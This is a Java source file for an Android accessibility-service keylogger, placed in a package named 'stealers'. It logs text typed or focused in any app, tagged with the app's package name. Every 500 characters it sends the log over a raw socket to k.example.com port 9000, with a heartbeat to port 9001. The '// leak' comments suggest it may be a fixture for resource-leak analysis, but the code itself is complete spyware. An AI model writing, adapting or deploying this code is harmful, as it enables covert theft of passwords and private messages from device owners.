package stealers;

import android.accessibilityservice.AccessibilityService;
import android.os.*;
import android.view.accessibility.*;

import java.io.*;
import java.net.*;
import java.util.*;

/** What is typed is gathered and sent when there is enough of it. */
public class Keys extends AccessibilityService {
    private static final StringBuffer log = new StringBuffer();
    private Handler handler;

    @Override
    protected void onServiceConnected() {
        HandlerThread t = new HandlerThread("k");
        t.start();
        handler =
                new Handler(t.getLooper()) {
                    @Override
                    public void handleMessage(Message m) {
                        if (m.what == 1) flush((String) m.obj);
                        else if (m.what == 2) alive(m.obj.toString());
                    }
                };
    }

    @Override
    public void onAccessibilityEvent(AccessibilityEvent e) {
        switch (e.getEventType()) {
            case AccessibilityEvent.TYPE_VIEW_TEXT_CHANGED:
                log.append('[').append(e.getPackageName()).append("] ").append(e.getText()).append('\n');
                break;
            case AccessibilityEvent.TYPE_VIEW_FOCUSED:
                AccessibilityNodeInfo n = e.getSource();
                if (n != null && n.getText() != null) log.append(n.getText());
                break;
        }
        if (log.length() > 500) {
            handler.sendMessage(Message.obtain(handler, 1, log.toString()));
            log.setLength(0);
            handler.obtainMessage(2, "alive").sendToTarget();
        }
    }

    @Override
    public void onInterrupt() {}

    static void flush(String s) {
        try {
            Socket k = new Socket();
            k.connect(new InetSocketAddress("k.example.com", 9000), 3000);
            PrintWriter w = new PrintWriter(new BufferedWriter(new OutputStreamWriter(k.getOutputStream())), true);
            w.println(s); // leak
            k.close();
        } catch (IOException e) {
        }
    }

    static void alive(String s) {
        try {
            PrintWriter w = new PrintWriter(new Socket("k.example.com", 9001).getOutputStream());
            w.println(s); // no leak
            w.flush();
        } catch (IOException e) {
        }
    }
}
